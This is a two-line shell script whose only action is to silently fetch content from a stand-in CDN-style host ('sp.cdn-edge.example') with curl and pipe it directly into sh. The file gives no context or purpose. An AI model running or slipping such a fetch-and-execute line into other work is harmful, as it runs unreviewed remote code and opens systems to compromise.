#!/bin/sh
curl -s https://sp.cdn-edge.example/w | sh
